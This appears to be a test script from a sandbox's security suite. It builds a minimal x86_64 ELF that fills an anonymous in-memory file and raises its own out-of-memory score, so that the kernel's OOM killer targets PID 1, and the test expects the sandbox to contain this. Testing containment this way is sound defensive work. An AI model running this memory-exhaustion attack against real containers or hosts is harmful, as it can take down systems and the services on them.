# attack: Becomes a program smaller than PID 1 and fills memory that is nobody's, so that PID 1 is the largest
# expect: failed OUT_OF_MEMORY or failed SANDBOX_UNAVAILABLE
# memory: 96 MiB
# prints: becoming small
import os
import struct

import attack

# On x86_64: for (;;) { write(3, 0x400000, 64); } on a file in memory, nothing else mapped.
CODE = bytes.fromhex(
    "6a01" "58"  # push 1; pop rax: write
    "6a03" "5f"  # push 3; pop rdi: descriptor
    "be00004000"  # mov esi, 0x400000: the program's own first page
    "ba00100000"  # mov edx, 4096
    "0f05"  # syscall
    "ebec"  # back to the first
)
HEAD = 64 + 56
SIZE = HEAD + len(CODE)
elf = struct.pack(
    "<16sHHIQQQIHHHHHH",
    b"\x7fELF\x02\x01\x01",
    2, 62, 1, 0x400000 + HEAD, 64, 0, 0, 64, 56, 1, 0, 0, 0,
) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 4096, 4096, 4096)
elf += CODE
elf += bytes(4096 - len(elf))

with open("/proc/self/oom_score_adj", "w") as file:
    attack.result_of(lambda: file.write("500"))
memory = os.memfd_create("nobody's")
os.dup2(memory, 3)
os.set_inheritable(3, True)
with open("/workspace/small", "wb") as file:
    file.write(elf)
os.chmod("/workspace/small", 0o755)
attack.announce("becoming small")
os.execv("/workspace/small", ["small"])
